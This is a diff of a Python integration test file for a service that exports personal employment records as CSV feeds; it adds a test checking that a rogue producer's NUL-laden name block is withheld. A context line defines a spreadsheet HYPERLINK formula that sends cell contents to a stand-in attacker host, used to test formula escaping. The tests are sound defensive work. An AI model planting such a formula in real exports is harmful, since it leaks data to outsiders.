@@ -34,14 +34,17 @@ from domain.consent import Scope
 from infra.auth import OrgKind, Role, add_client
 from infra.codecs.csv_write import write_csv
 from infra.config import Settings
+from infra.crypto import KeyStore, seal
 from infra.topics import ensure_topics
 from producers.adapters.app import employment_app
 from producers.adapters.serve import running
 from producers.adapters.sites import add_sites
 from producers.publish import publish_submissions
+from producers.submission import to_event
 from tests import factories
 from tests.browser.console_server import RunningConsole
 from tests.integration.test_adapters_http import free_port
+from tests.integration.test_hostile_consumers import _publish_raw, _raw
 
 MiB = 1024 * 1024
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -335,3 +338,48 @@ async def test_formula_cells_are_escaped_in_every_csv_export(pool: asyncpg.Pool,
     for encoding in ("utf-8", "cp932"):
         data, _ = to_csv([["-1", "+2.5", "-x", "\tx", "\rx", "=1+1", "@a", "+81-3"]], encoding)  # type: ignore[arg-type]
         assert _cells(data, encoding) == ["-1", "+2.5", "'-x", "'\tx", "'\rx", "'=1+1", "'@a", "'+81-3"]
+
+
+async def test_a_rogue_personal_block_never_breaks_the_individual_list(
+    pool: asyncpg.Pool, limited: Limited
+) -> None:
+    """A person's latest registration carries a sealed block that opens to a NUL in the name (a rogue
+    producer holding the person's key): the authority's individual list still answers 200, without that
+    person (withheld, as an unreadable block is) and with everyone else."""
+    settings = limited.settings
+    rogue, good = factories.person_key(), factories.person_key()
+    subs = []
+    for pk in (good, rogue):
+        subs += [
+            factories.registration(pk, registered_on="2019-08-01"),
+            factories.consent(pk, valid_from="2019-08-01"),
+            factories.placement(pk, placed_on="2019-08-15"),
+        ]
+    await publish_submissions(settings, pool, subs, origin="test-hostile")
+    async with pool.acquire() as conn:
+        key = (await KeyStore.from_settings(settings).keys_for(conn, [rogue]))[rogue]
+    latest = to_event(factories.registration(rogue, registered_on="2019-08-02"), key)
+    personal = seal(key, rogue, {"name": "Tanaka\x00Hanako", "birth_date": "1988-06-01"}).model_dump()
+    await _publish_raw(settings, [_raw(settings, latest, personal=personal)])
+    projection = FeedProjection(settings)
+    runtime = ConsumerRuntime(
+        projection, settings, pool, group_id=f"{projection.name}.{settings.topic_namespace}"
+    )
+    await run_until(runtime, pool, await end_offsets(settings, projection.topics), timeout_s=120)
+    async with pool.acquire() as conn:
+        await add_agreement(
+            conn, authority=factories.AUTHORITY, offices=[factories.OFFICE], sites=[factories.SITE],
+            purposes=[Scope.DISCLOSE_PLACEMENT.value], valid_from=date(2015, 4, 1), valid_until=None,
+            title="rogue block", created_by="test",
+        )  # fmt: skip
+    await build_month(pool, settings, YearMonth(2019, 8), authorities=[factories.AUTHORITY])
+    auth = {"Authorization": f"Bearer {limited.reader}"}
+    with TestClient(create_feed_app(settings)) as client:
+        response = client.get(
+            f"/feeds/{factories.AUTHORITY}/2019-08",
+            params={"format": "csv", "part": "individuals"},
+            headers=auth,
+        )
+    assert response.status_code == 200, (response.status_code, response.text[:300])
+    assert "Tanaka" not in response.text and "\x00" not in response.text
+    assert len(response.text.strip().splitlines()) == 2, "the header and the other person"
